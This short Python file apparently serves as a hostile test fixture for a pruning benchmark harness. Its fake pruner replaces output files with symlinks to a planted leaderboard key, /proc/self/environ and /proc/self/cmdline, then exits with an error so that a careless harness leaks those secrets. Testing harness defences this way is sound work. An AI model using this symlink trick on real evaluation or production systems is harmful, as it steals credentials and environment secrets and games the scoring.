"""Replaces ``output.txt`` (and every other name) in its folder with symbolic links to the leaderboard key, to
``/proc/self/environ`` and ``/proc/self/cmdline`` (the reader's own, should the harness follow them), then exits 1."""
import os
from pathlib import Path


def key_paths() -> list[str]:
    home = os.environ.get("HOSTILE_CONFIG", "")  # where the test planted the key (a pruner may guess it)
    return [f"{home}/plantseek/leaderboard.key", str(Path.home() / ".config/plantseek/leaderboard.key")]


class OutputLinks:
    name = "output-links"

    def prune(self, model, data, density, *, generator, budget):
        targets = {"output.txt": key_paths()[0], "stdout": "/proc/self/environ", "stderr": "/proc/self/cmdline",
                   "output": key_paths()[1]}
        for name, target in targets.items():
            try:
                os.symlink(target, name)
            except OSError:
                pass
        print("links in place", flush=True)
        os._exit(1)
